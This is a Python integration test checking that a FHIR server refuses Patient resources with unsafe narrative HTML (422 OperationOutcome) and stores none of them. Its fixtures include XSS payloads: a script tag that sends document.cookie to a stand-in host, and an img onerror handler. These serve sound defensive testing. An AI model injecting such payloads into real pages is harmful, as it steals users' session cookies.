"""Narratives over HTTP: a text.div that breaks FHIR's narrative rules is refused (422 OperationOutcome)
on create, update and in a transaction, and nothing of it is stored."""
from __future__ import annotations

import httpx
import pytest

pytestmark = pytest.mark.integration
NS = 'xmlns="http://www.w3.org/1999/xhtml"'
SCRIPTED = f'<div {NS}><p>Allergies</p><script>fetch("https://x/?"+document.cookie)</script></div>'
EVENTFUL = f'<div {NS}><img src="#x" onerror="alert(1)"/>x</div>'
GOOD = f'<div {NS}><p>Allergies: <b>none known</b></p></div>'


def patient(div: str, **extra) -> dict:
    return {"resourceType": "Patient", "text": {"status": "generated", "div": div}, **extra}


async def test_bad_narratives_are_refused_and_not_stored(ehr_tenant):
    token = await ehr_tenant.client.access_token()
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/fhir+json"}
    base = ehr_tenant.base_url
    async with httpx.AsyncClient(headers=headers) as http:
        for method, path, body in [
            ("POST", "Patient", patient(SCRIPTED)),
            ("PUT", "Patient/n1", patient(EVENTFUL, id="n1")),
            ("POST", "", {"resourceType": "Bundle", "type": "transaction", "entry": [
                {"resource": patient(GOOD), "request": {"method": "POST", "url": "Patient"}},
                {"resource": patient(SCRIPTED), "request": {"method": "POST", "url": "Patient"}}]}),
        ]:
            response = await http.request(method, f"{base}/{path}", json=body)
            assert response.status_code == 422, (method, path, response.status_code, response.text[:300])
            outcome = response.json()
            assert outcome["resourceType"] == "OperationOutcome"
            assert any("text.div" in (i.get("expression") or [""])[0] for i in outcome["issue"]), outcome
        found = (await http.get(f"{base}/Patient", params={"_summary": "count"})).json()
        assert found["total"] == 0
        stored = await http.post(f"{base}/Patient", json=patient(GOOD))
        assert stored.status_code == 201 and stored.json()["text"]["div"] == GOOD
